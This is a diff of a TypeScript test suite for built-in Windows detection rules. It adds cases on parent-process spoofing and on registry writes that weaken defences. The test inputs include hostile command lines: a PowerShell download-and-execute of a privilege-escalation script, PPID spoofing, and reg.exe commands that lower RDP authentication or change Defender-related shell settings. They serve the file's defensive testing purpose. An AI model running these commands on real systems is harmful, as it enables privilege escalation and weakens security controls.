@@ -572,7 +572,8 @@ describe('built-in Windows rules', () => {
     expect(titlesOf(proc(4, PS, 'powershell.exe & {Start-Process C:\\Tools\\launcher.exe -Argument "-U:C -P:D cmd"}'))).not.toContain(NSUDO);
     const TOKEN = 'Token Manipulation Or Parent Process Spoofing PowerShell Cmdlets';
     expect(hits([proc(5, PS, "powershell.exe & {IEX (IWR 'https://example.org/Get-System.ps1'); Get-System -Technique Token}")]).get(TOKEN)).toEqual({ level: 'high', tactics: ['privilege-escalation'] });
-    expect(titlesOf(proc(6, PS, "powershell.exe -c Start-ATHProcessUnderSpecificParent -ParentId 4242"))).toContain(TOKEN);
+    expect(titlesOf(proc(6, PS, "powershell.exe -c Invoke-PPIDSpoof -Process notepad.exe -ParentId 4242"))).toContain(TOKEN);
+    expect(titlesOf(proc(27, PS, "powershell.exe -c Start-ATHProcessUnderSpecificParent -ParentId 4242"))).not.toContain(TOKEN);
     expect(titlesOf(proc(7, PS, 'powershell.exe -c Get-SystemInfo | Out-File x.txt'))).not.toContain(TOKEN);
     const block = (t: number, text: string): ReturnType<typeof makeEvent> => win(t, 'Microsoft-Windows-PowerShell/Operational', 'Microsoft-Windows-PowerShell', 4104, { ScriptBlockText: text });
     expect(titlesOf(block(8, 'Get-WinlogonTokenSystem'))).toContain(`${TOKEN} (script block 4104)`);
@@ -629,6 +630,10 @@ describe('built-in Windows rules', () => {
     expect(auto?.level).toBe('medium');
     expect(titlesOf(proc(14, `${S32}reg.exe`, 'reg  add "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\App Paths\\msedge.exe" /t REG_SZ /d C:\\x.exe /f'))).toContain(AUTO);
     expect(titlesOf(proc(15, `${S32}reg.exe`, 'reg query "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\App Paths\\msedge.exe"'))).not.toContain(AUTO);
+    const WEAK = 'Registry Value That Weakens Or Hides Windows Defences Written From The Command Line';
+    expect(titlesOf(proc(16, `${S32}reg.exe`, 'reg  add HKLM\\SOFTWARE\\WOW6432Node\\Microsoft\\Windows\\CurrentVersion\\ImmersiveShell /v UseActionCenterExperience /t REG_DWORD /d 0 /f'))).toContain(WEAK);
+    expect(titlesOf(proc(17, `${S32}reg.exe`, 'reg  add "HKCU\\Software\\Microsoft\\Terminal Server Client" /v AuthenticationLevelOverride /t REG_DWORD /d 0 /f'))).toContain(WEAK);
+    expect(titlesOf(proc(18, `${S32}reg.exe`, 'reg query "HKCU\\Software\\Microsoft\\Terminal Server Client" /v AuthenticationLevelOverride'))).not.toContain(WEAK);
   });
 
   it('WMI subscriptions, PowerShell profiles, IIS modules, Office add-ins, shims, termsrv.dll, web roots, PsExec-like arguments, BITS; near misses are not', () => {
